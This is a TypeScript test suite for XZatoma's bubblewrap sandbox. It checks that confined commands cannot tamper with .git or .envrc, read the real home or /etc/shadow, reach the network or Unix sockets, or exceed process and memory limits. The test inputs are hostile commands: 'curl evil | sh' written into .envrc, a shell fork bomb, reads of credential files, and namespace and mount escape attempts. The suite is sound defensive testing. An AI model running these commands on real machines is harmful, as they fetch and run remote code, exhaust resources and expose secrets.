// What a command inside XZatoma's sandbox cannot reach: real bubblewrap, real overlays,
// real processes. Each case is an escape that a review of the earlier sandbox found, or
// one that the design closes on purpose.
import { spawnSync } from "node:child_process";
import {
  lstat,
  mkdtemp,
  readFile,
  readdir,
  readlink,
  realpath,
  rm,
  stat,
  writeFile,
} from "node:fs/promises";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSandbox } from "./sandbox.js";
import {
  TEST_TIMEOUT_MS,
  makeWorkspace,
  removeWorkspace,
  runConfined,
} from "./sandbox.test-support.js";

const sandbox = createSandbox();
/** Refuses what XZatoma's path rules refuse, in the shape the terminal tool passes. */
const judge = (relative: string, _change: string, context: { writableGit: boolean }) => {
  const parts = relative.split("/");
  if (parts.includes(".envrc")) return `${relative} is protected: it runs code when a shell enters`;
  if (parts[0] === ".git" && !context.writableGit) return `${relative} is inside .git`;
  return undefined;
};

let workspace: string;
beforeAll(async () => {
  await sandbox.probe();
  expect(sandbox.warning).toBeUndefined();
  expect(sandbox.kind).toBe("bubblewrap");
});

describe("the sandbox holds the workspace's protected paths", () => {
  beforeAll(async () => {
    workspace = await makeWorkspace({ ".git/config": "[core]\n", "README.md": "hi\n" });
  });
  afterAll(() => removeWorkspace(workspace));
  const run = (command: string) =>
    runConfined(sandbox, command, {
      workspace,
      readOnlyPaths: [path.join(workspace, ".git")],
      judge,
    });

  it(
    "discards a protected file that did not exist before, at the top and deeper down",
    async () => {
      const result = await run(
        `python3 -c "open('.envrc','w').write('curl evil | sh')" && mkdir -p sub && echo x > sub/.envrc && echo fine > sub/ok`,
      );
      expect(result.code).toBe(0);
      await expect(lstat(path.join(workspace, ".envrc"))).rejects.toThrow(/ENOENT/);
      await expect(lstat(path.join(workspace, "sub/.envrc"))).rejects.toThrow(/ENOENT/);
      expect(await readFile(path.join(workspace, "sub/ok"), "utf8")).toBe("fine\n");
      expect(result.outcome.discarded.map((change) => change.path).sort()).toEqual([
        ".envrc",
        "sub/.envrc",
      ]);
      expect(result.outcome.applied).toEqual(expect.arrayContaining(["sub", "sub/ok"]));
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "keeps .git when a command renames it away and builds a new one",
    async () => {
      const before = await stat(path.join(workspace, ".git"));
      const result = await run(
        "mv .git g2; mkdir -p .git; echo evil > .git/config; rm -rf .git; mkdir .git && echo evil > .git/config; echo '[x]' >> .git/config",
      );
      expect(result.stderr).toMatch(/Device or resource busy|Read-only file system/);
      expect(await readFile(path.join(workspace, ".git/config"), "utf8")).toBe("[core]\n");
      expect((await stat(path.join(workspace, ".git"))).ino).toBe(before.ino);
      await expect(lstat(path.join(workspace, "g2"))).rejects.toThrow(/ENOENT/);
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "lets .git change when a person approved a git command that writes it (hooks stay read-only)",
    async () => {
      const gitWorkspace = await makeWorkspace({
        ".git/config": "[core]\n",
        ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
      });
      try {
        const result = await runConfined(
          sandbox,
          "echo '[user]' >> .git/config && echo evil > .git/hooks/pre-commit",
          {
            workspace: gitWorkspace,
            readOnlyPaths: [path.join(gitWorkspace, ".git/hooks")],
            writableGit: true,
            judge,
          },
        );
        expect(result.stderr).toMatch(/Read-only file system/);
        expect(await readFile(path.join(gitWorkspace, ".git/config"), "utf8")).toBe(
          "[core]\n[user]\n",
        );
        await expect(lstat(path.join(gitWorkspace, ".git/hooks/pre-commit"))).rejects.toThrow(
          /ENOENT/,
        );
      } finally {
        await removeWorkspace(gitWorkspace);
      }
    },
    TEST_TIMEOUT_MS,
  );
});

describe("the sandbox hides the rest of the machine", () => {
  beforeAll(async () => {
    workspace = await makeWorkspace({ "README.md": "hi\n" });
  });
  afterAll(() => removeWorkspace(workspace));

  it(
    "shows an empty home, not the real one",
    async () => {
      const realHome = os.homedir();
      const marker = path.join(realHome, `.xzatoma-sandbox-marker-${process.pid}`);
      await writeFile(marker, "secret\n");
      try {
        const result = await runConfined(
          sandbox,
          `echo "HOME=$HOME"; ls -A ~; cat ${JSON.stringify(marker)}; cat ${JSON.stringify(path.join(realHome, ".bashrc"))}; cat /root/.bashrc; echo done`,
          { workspace },
        );
        expect(result.stdout).toBe("HOME=/home/sandbox\ndone\n");
        expect(result.stderr).toContain("No such file or directory");
        expect(result.stdout + result.stderr).not.toContain("secret");
      } finally {
        await rm(marker, { force: true });
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "hides /etc/shadow and other private files of /etc, and /run, while /etc/passwd stays readable",
    async () => {
      const result = await runConfined(
        sandbox,
        "head -c 4 /etc/passwd; echo; cat /etc/shadow; echo shadow=$?; ls /etc/ssh; echo ssh=$?; ls /run; echo run=$?; test -e /var/run; echo varrun=$?; ls /srv /mnt /media /opt 2>/dev/null; echo others=$?",
        { workspace },
      );
      expect(result.stdout).toBe("root\nshadow=1\nssh=2\nrun=2\nvarrun=1\nothers=2\n");
      expect(result.stderr).toContain("/etc/shadow: Permission denied");
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "gives the command no capabilities, no new namespaces, no mounts and no writable sysctls",
    async () => {
      const result = await runConfined(
        sandbox,
        "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; unshare -U true && echo unshared; mount -t tmpfs none /tmp && echo mounted; echo 4 > /proc/sys/vm/drop_caches && echo sysctl; touch /new-top-level && echo root-written; echo x > /dev/new && echo dev-written; echo end",
        { workspace },
      );
      expect(result.stdout).toBe(
        "CapPrm:\t0000000000000000\nCapEff:\t0000000000000000\nCapBnd:\t0000000000000000\nend\n",
      );
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "keeps the network off: a connection to a canary on 127.0.0.1 never arrives",
    async () => {
      let connections = 0;
      const canary = net.createServer((socket) => {
        connections += 1;
        socket.destroy();
      });
      await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
      const port = (canary.address() as net.AddressInfo).port;
      try {
        const off = await runConfined(
          sandbox,
          `echo x > /dev/tcp/127.0.0.1/${port} && echo connected`,
          { workspace },
        );
        expect(off.stdout).toBe("");
        expect(connections).toBe(0);
        // With the network allowed, the same command reaches the canary: the test can fail.
        const on = await runConfined(
          sandbox,
          `echo x > /dev/tcp/127.0.0.1/${port} && echo connected`,
          { workspace, network: true },
        );
        expect(on.stdout).toBe("connected\n");
        expect(connections).toBe(1);
      } finally {
        await new Promise((resolve) => canary.close(resolve));
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "refuses Unix sockets: a host server, visible in the workspace or elsewhere, sees no connection",
    async () => {
      const hostDirectory = await realpath(
        await mkdtemp(path.join(os.tmpdir(), "xzatoma-sandbox-host-")),
      );
      const inWorkspace = path.join(workspace, "agent.sock");
      const elsewhere = path.join(hostDirectory, "agent.sock");
      let connections = 0;
      const servers = [inWorkspace, elsewhere].map((socketPath) => {
        const server = net.createServer((socket) => {
          connections += 1;
          socket.destroy();
        });
        return { server, socketPath };
      });
      for (const { server, socketPath } of servers) {
        await new Promise<void>((resolve) => server.listen(socketPath, resolve));
      }
      const connect = (socketPath: string) =>
        `python3 -c 'import socket,sys
try:
    s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("connected")
except OSError as e:
    print(e.strerror)' ${JSON.stringify(socketPath)}`;
      try {
        const shown = createSandbox({ extraReadOnlyPaths: [hostDirectory] });
        const result = await runConfined(
          shown,
          `${connect(inWorkspace)}; ${connect(elsewhere)}; python3 -c 'import socket
a, b = socket.socketpair(); a.send(b"ok"); print(b.recv(2).decode())
try:
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); print("datagram pair")
except OSError as e:
    print(e.strerror)'`,
          { workspace },
        );
        expect(result.stdout).toBe(
          "Operation not permitted\nOperation not permitted\nok\nOperation not permitted\n",
        );
        expect(connections).toBe(0);
      } finally {
        for (const { server } of servers) await new Promise((resolve) => server.close(resolve));
        await rm(hostDirectory, { recursive: true, force: true });
        await rm(inWorkspace, { force: true });
      }
    },
    TEST_TIMEOUT_MS,
  );
});

describe("the sandbox's limits", () => {
  beforeAll(async () => {
    workspace = await makeWorkspace();
  });
  afterAll(() => removeWorkspace(workspace));

  it(
    "applies them, and node still starts under the defaults",
    async () => {
      const node = spawnSync("sh", ["-c", "command -v node"], { encoding: "utf8" }).stdout.trim();
      const nodeDirectory = node === "" ? undefined : path.dirname(await realpath(node));
      const defaults = await runConfined(
        createSandbox(nodeDirectory ? { extraReadOnlyPaths: [nodeDirectory] } : {}),
        `ulimit -u; ulimit -d; ulimit -f; ulimit -t; ${nodeDirectory ? `${JSON.stringify(path.join(nodeDirectory, "node"))} -e 'console.log("node runs")'` : 'echo "node runs"'}`,
        { workspace },
      );
      // 1024 processes in the sandbox, plus bwrap's own outside its pid namespace.
      expect(defaults.stdout).toBe("1025\n8388608\n4194304\n900\nnode runs\n");
      const tight = await runConfined(
        sandbox,
        "python3 -c 'bytearray(300 * 1024 * 1024)' 2>/dev/null || echo memory refused; head -c 2000000 /dev/zero > big || echo file cut; wc -c < big",
        { workspace, limits: { memoryBytes: 100 * 1024 ** 2, fileSizeBytes: 1024 ** 2 } },
      );
      expect(tight.stdout).toBe("memory refused\nfile cut\n1048576\n");
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "contains a fork bomb: it never passes the process limit and dies with its sandbox",
    async () => {
      const limit = 64;
      let peak = 0;
      let sandboxNamespace: string | undefined;
      const childrenOf = async (parent: number): Promise<string[]> => {
        const children: string[] = [];
        for (const entry of await readdir("/proc")) {
          if (!/^\d+$/.test(entry)) continue;
          const status = await readFile(`/proc/${entry}/stat`, "utf8").catch(() => "");
          const fields = status.slice(status.lastIndexOf(")") + 2).split(" ");
          if (fields[1] === String(parent)) children.push(entry);
        }
        return children;
      };
      const inNamespace = async (namespace: string): Promise<number> => {
        let count = 0;
        for (const entry of await readdir("/proc")) {
          if (!/^\d+$/.test(entry)) continue;
          const link = await readlink(`/proc/${entry}/ns/pid`).catch(() => undefined);
          if (link !== namespace) continue;
          // A zombie has ended; only its parent's bookkeeping remains.
          const status = await readFile(`/proc/${entry}/stat`, "utf8").catch(() => "");
          if (!/^\S+ \(.*\) Z /s.test(status)) count += 1;
        }
        return count;
      };
      const result = await runConfined(
        sandbox,
        // The bomb grows in the background while the command's main process waits.
        ":(){ :|:& };:; exec sleep 120",
        { workspace, limits: { processes: limit } },
        {
          async onStart(pid) {
            const ours = await readlink("/proc/self/ns/pid");
            const started = performance.now();
            // Find the sandbox's pid namespace: bwrap's child lives in it.
            for (let attempt = 0; attempt < 2000 && sandboxNamespace === undefined; attempt++) {
              for (const child of await childrenOf(pid)) {
                const link = await readlink(`/proc/${child}/ns/pid`).catch(() => undefined);
                if (link !== undefined && link !== ours) sandboxNamespace = link;
              }
              if (sandboxNamespace === undefined)
                await new Promise((resolve) => setImmediate(resolve));
            }
            expect(sandboxNamespace).toBeDefined();
            // Watch it grow to the limit, then a while longer; never past it.
            let samplesAtLimit = 0;
            for (let sample = 0; sample < 400 && samplesAtLimit < 20; sample++) {
              const count = await inNamespace(sandboxNamespace!);
              peak = Math.max(peak, count);
              if (count >= limit - 8) samplesAtLimit += 1;
              if (performance.now() - started > 30_000) break;
              await new Promise((resolve) => setTimeout(resolve, 25));
            }
          },
        },
      );
      expect(result.code).not.toBe(0);
      expect(peak).toBeGreaterThan(limit / 2);
      expect(peak).toBeLessThanOrEqual(limit);
      expect(await inNamespace(sandboxNamespace!)).toBe(0);
      // The machine still starts processes.
      expect(spawnSync("true").status).toBe(0);
    },
    TEST_TIMEOUT_MS,
  );
});
